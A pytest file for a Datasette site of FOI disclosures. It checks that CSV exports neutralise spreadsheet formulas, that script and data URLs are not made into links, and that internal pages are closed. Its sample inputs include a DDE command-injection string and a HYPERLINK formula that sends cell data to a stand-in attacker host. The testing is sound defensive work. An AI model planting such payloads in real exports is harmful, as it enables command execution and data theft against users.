"""What leaves the site does no harm: no formulas in CSV, no scripts as links, no paths."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path

import pytest
from datasette.app import Datasette

from db.load import load_bodies
from db.publish import publish
from db.serve import open_site
from parsers.directory import BODIES
from parsers.types import Cell, Policy
from tests.db.records import crosstab, document, edited, load, record

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"see, here")',
    "@SUM(1+1)*2",
    "+1+cmd",
    "-2+3+cmd",
    "\t=1+1",
    "=1\n+1",
)
NUMBERS = ("-5", "+44", "-1,234.5", "-12%", "-", "5")


@pytest.fixture
async def site(tmp_path: Path) -> AsyncIterator[Datasette]:
    """Answers whose titles, captions and cells begin like formulas, of a force with odd links."""
    given = []
    for at, words in enumerate((*FORMULAS, *NUMBERS)):
        base = crosstab(caption=words)
        grid = ((Cell("Ward"), Cell("2024")), (Cell(words), Cell(words)))
        figures = tuple(replace(figure, text=words) for figure in base.reading.figures)
        table = replace(
            base,
            table=replace(base.table, grid=grid),
            reading=replace(base.reading, figures=figures),
        )
        one = record("kent", f"FOI-{at}")
        given.append(edited(one, title=words, documents=(document(one.key, 0, table),)))
    load(tmp_path / "staging.db", "kent", given)
    publish(tmp_path / "staging.db", tmp_path / "forcewide.db", policy=Policy.FULL)
    with open_site(tmp_path / "forcewide.db") as opened:
        await opened.invoke_startup()
        yield opened


@pytest.mark.parametrize("ending", ["", "&_stream=on", "&_dl=1"])
async def test_no_cell_of_a_csv_is_a_formula(site: Datasette, ending: str) -> None:
    seen: set[str] = set()
    for name in ("disclosures", "tables", "figures", "tidy_figures"):
        answer = await site.client.get(f"/forcewide/{name}.csv?_size=max{ending}")
        assert answer.status_code == 200
        rows = list(csv.reader(io.StringIO(answer.text, newline="")))
        assert len({len(row) for row in rows}) == 1
        cells = [cell for row in rows for cell in row]
        seen.update(cells)
        harmful = [c for c in cells if c[:1] in ("=", "@", "\t") or c in FORMULAS]
        assert harmful == [], name
    assert {f"'{words}" for words in FORMULAS} <= seen
    assert set(NUMBERS) <= seen


async def test_a_search_and_a_query_as_csv_too(site: Datasette) -> None:
    answer = await site.client.get("/forcewide.csv?sql=select+'%3D1%2B1'+as+one")
    assert answer.text.splitlines() == ["one", "'=1+1"]


@pytest.mark.parametrize("address", ["javascript:alert(1)", "data:text/html,x", " JaVaScript:x"])
async def test_only_web_addresses_are_links(tmp_path: Path, address: str) -> None:
    load(tmp_path / "staging.db", "kent", [record("kent")])
    bodies = [replace(body, website=address, log_url=address) for body in BODIES]
    load_bodies(tmp_path / "staging.db", bodies)
    publish(tmp_path / "staging.db", tmp_path / "forcewide.db", policy=Policy.FULL)
    with open_site(tmp_path / "forcewide.db") as opened:
        for path in ("/force/kent", "/forcewide/forces"):
            page = (await opened.client.get(path)).text.lower()
            assert f'href="{address.lower()}' not in page
            assert f'href="{address.strip().lower()}' not in page


@pytest.mark.parametrize(
    "name",
    [
        *("databases", "databases.json", "threads.json", "threads", "patterns", "messages"),
        *("plugins.json", "permissions", "allow-debug", "config.json", "actor.json", "logout"),
    ],
)
async def test_the_inner_pages_are_closed(site: Datasette, name: str) -> None:
    assert (await site.client.get(f"/-/{name}")).status_code == 404


async def test_what_the_site_needs_of_them_is_open(site: Datasette) -> None:
    assert (await site.client.get("/-/settings.json")).status_code == 200
